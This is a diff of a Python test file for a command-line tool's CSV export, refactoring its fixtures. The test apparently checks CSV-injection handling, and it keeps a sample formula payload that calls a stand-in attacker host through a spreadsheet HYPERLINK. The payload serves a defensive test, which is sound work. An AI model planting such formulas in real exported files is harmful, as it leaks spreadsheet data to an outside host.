@@ -7,13 +7,12 @@ from __future__ import annotations
 
 import csv
 import io
-import shutil
 from pathlib import Path
 
 import pytest
 
 from socketcli.cli.output import csv_text
-from tests.conftest import MadeBySocket
+from tests.conftest import StoreMadeBy
 from tests.runner import Socket
 
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click me")'
@@ -26,8 +25,7 @@ NAMES = {
 }
 
 
-@pytest.fixture(scope="module")
-def template(made_by_socket: MadeBySocket) -> Path:
+def _practice() -> list[tuple[str, ...]]:
     commands: list[tuple[str, ...]] = [
         ("init",),
         ("services", "add", "Bookkeeping", "--method", "monthly", "--account-code", "200"),
@@ -45,13 +43,13 @@ def template(made_by_socket: MadeBySocket) -> Path:
     commands.append(
         ("proposals", "change", "P-PLAIN", "--from", "2026-12", "--set", "Bookkeeping=100")
     )
-    return made_by_socket("csv-injection", commands)
+    return commands
 
 
 @pytest.fixture
-def practice(template: Path, data_dir: Path) -> Path:
-    shutil.copytree(template, data_dir)
-    return data_dir
+def practice(store_made_by: StoreMadeBy) -> Path:
+    """This test's own copy of the practice, as its default store, on this test's engine."""
+    return store_made_by("csv-injection", _practice())
 
 
 def rows(socket: Socket, *args: str) -> list[dict[str, str]]:
